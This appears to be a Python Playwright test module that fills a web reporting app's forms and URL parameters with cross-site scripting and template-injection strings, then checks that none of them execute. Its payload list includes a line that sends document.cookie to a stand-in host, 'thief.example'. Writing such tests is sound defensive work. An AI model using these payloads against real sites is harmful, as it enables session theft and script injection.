"""Hostile words in every field that comes from outside, and in every field that people fill in: on every page without
effect, in a real Chromium."""

import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.async_api import Browser

from reporting.web.app import make_app
from store.runs import ensure_unit
from tests.web.addresses import MORE, PAGES
from tests.web.browsing import opened
from tests.web.serving import HOSTS, Served, serving
from tests.web.worlds import OTHER_UNIT, REPORTED, build_ward

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<img src=x onerror=\"fetch('//thief.example/'+document.cookie)\">",
    '"><script>alert(1)</script><svg onload=alert(2)>',
    "javascript:alert(3)//",
    "'-alert(4)-'{{7*7}}{% raw %}</title></textarea></select><iframe src=//thief.example>",
)
_ALL = "".join(PAYLOADS)
_TURNED = "\u202e"  # what comes behind it is read from the right
_SPREADS = f"""() => [...document.querySelectorAll("main *")].filter(each =>
  [...each.childNodes].some(node => node.nodeType === Node.TEXT_NODE && node.data.includes("{_TURNED}"))
  && getComputedStyle(each).display === "inline" && getComputedStyle(each).unicodeBidi !== "isolate"
).map(each => each.outerHTML)"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The busy ward with a payload in every text that comes from outside, and then in every form that people send."""
    count = 0

    def poison(words: str) -> str:
        nonlocal count
        count += 1
        if "@" in words:
            return words
        return f"{PAYLOADS[count % len(PAYLOADS)]}{words}{_TURNED}" if count % 4 != 2 else PAYLOADS[2]

    made = build_ward(tmp_path_factory.mktemp("hostile"), words=poison)
    ensure_unit(made.desk.writer, OTHER_UNIT, _ALL)
    with serving(make_app(made.desk, HOSTS)) as running:
        _fill_in(running)
        yield running
    made.close()


def _fill_in(served: Served) -> None:
    """Every form with the payloads in every field that keeps words."""
    late = re.search(r'name="hs" value="([^"]+)"', served.get("/don-doc").body)
    assert late is not None
    sent: list[tuple[str, dict[str, str], int]] = [
        ("/don-doc/ghi-nhan", {"hs": late[1], "ghi-chu": _ALL}, 303),
        ("/don-doc/tra-loi", {"so": "2", "tra-loi": _ALL}, 303),
        (f"/bao-cao/{REPORTED}/loi-van", dict.fromkeys(("kho-khan", "thang-sau", "van-ban-0", "muc-0"), _ALL), 303),
        ("/cai-dat/phan/phong-0", dict.fromkeys(("name", "recipients"), _ALL), 200),
        ("/cai-dat/thu/mail", {"thu-toi": _ALL}, 200),
        ("/cai-dat/tai-khoan", {"ten": "kẻ", "ho-ten": _ALL, "vai-tro": _ALL, "mat-khau": _ALL}, 422),
        ("/dang-nhap", {"ten": _ALL, "mat-khau": _ALL, "ve": _ALL}, 401),
    ]
    changed = served.get(f"/bao-cao/{REPORTED}/thay-doi").body
    seen = {name: re.search(f'name="{name}" value="([^"]+)"', changed) for name in ("luc", "lan")}
    given = {name: found[1] for name, found in seen.items() if found is not None}
    sent.append((f"/bao-cao/{REPORTED}/phat-hanh-lai", {**given, "ly-do": _ALL}, 303))
    worked = served.get("/doi-soat").body
    asked = {name: re.search(f'name="{name}" value="([^"]*)"', worked) for name in ("cap", "ma-1", "ma-2", "xem-luc")}
    given = {name: found[1] for name, found in asked.items() if found is not None}
    sent.append(("/doi-soat", {**given, "vi-sao": _ALL}, 303))
    for path, fields, status in sent:
        assert served.post(path, fields).status == status, path


async def test_hostile_words_in_every_field_stay_words(chromium: Browser, hostile: Served) -> None:
    async with opened(chromium) as page:
        happened: list[str] = []
        page.on("dialog", lambda dialog: happened.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: happened.append(f"error {error}"))
        page.on("popup", lambda popup: happened.append(f"popup {popup.url}"))
        page.on(
            "request",
            lambda request: None if request.url.startswith(hostile.origin) else happened.append(request.url),
        )
        page.on(
            "console",
            lambda message: happened.append(message.text) if "Content Security Policy" in message.text else None,
        )
        asked = (f"/ho-so?tim={quote(_ALL)}", f"/ho-so?phong={quote(_ALL)}", f"/dang-nhap?ve={quote(_ALL)}")
        for path in (*PAGES, *MORE, *asked, f"/?dv={quote(_ALL)}", f"/cong?tb={quote(_ALL)}", f"/{quote(_ALL)}"):
            await page.goto(hostile.origin + path)
            planted = "img[src=x], iframe, [onerror], [onload], a[href^='javascript:']"
            assert await page.locator(planted).count() == 0, path
            assert "49" not in await page.title()
            assert await page.evaluate(_SPREADS) == [], "turned words turn others"
        assert not happened
